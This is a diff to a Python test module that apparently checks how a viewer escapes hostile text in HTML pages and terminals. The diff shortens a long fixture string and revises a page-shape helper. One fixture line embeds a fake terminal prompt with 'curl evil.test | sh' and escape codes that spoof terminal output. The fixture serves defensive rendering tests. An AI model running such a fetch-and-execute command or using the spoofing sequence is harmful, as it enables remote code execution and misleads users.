@@ -31,7 +31,7 @@ TEXTS = {
     "zero width": "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg\U000e0041",
     "nul": "a\x00b",
     "separators": "a\u2028b\u2029c\x0bd\x0ce\x1cf\x85g",
-    "long": "<b>" + "wide" * 5_000 + "</b>\x1b[0m",
+    "long": "<b>" + "wide" * 1_000 + "</b>\x1b[0m",
     "prompt": "fine\nreplayt: run a: completed\r\n$ curl evil.test | sh\r\x1b[K1/9> ",
 }
 """Ways to leave the place a text was put in: of a page, and of a terminal."""
@@ -40,6 +40,7 @@ LONE_SURROGATE = "a\ud800b"
 r"""What JSON can write as `\ud800` and no UTF-8 can hold: a line with it is damage."""
 
 EVERYTHING = " ".join(text for name, text in TEXTS.items() if name != "long")
+"""Those of them that are short, in one."""
 
 _ORDER = (
     "run_started state_entered llm_request llm_retry llm_response structured_output_failed "
@@ -198,8 +199,21 @@ def raw_characters(shown: str) -> set[str]:
 
 
 def shape(html: str) -> list[tuple[str, ...]]:
-    """The elements of a page in their order, each with the names of its attributes."""
-    return [(tag, *attrs) for tag, attrs in Page(html).elements]
+    """The elements of a page in their order, each with its class and the names of its attributes.
+
+    Without what shows an invisible character as text or says that a long one is cut, and with the
+    lines of a drawn label, which break where a text has its blanks, taken as one.
+    """
+    found: list[tuple[str, ...]] = []
+    for tag, attrs in Page(html).elements:
+        part = (tag, attrs.get("class", ""), *attrs)
+        of_label = tag == "text" and bool(found) and found[-1] == part
+        if part not in _SIZED and not of_label:
+            found.append(part)
+    return found
+
+
+_SIZED = (("span", "hidden-char", "class"), ("span", "cut", "class"))
 
 
 def documents(out: str) -> Iterator[Any]:
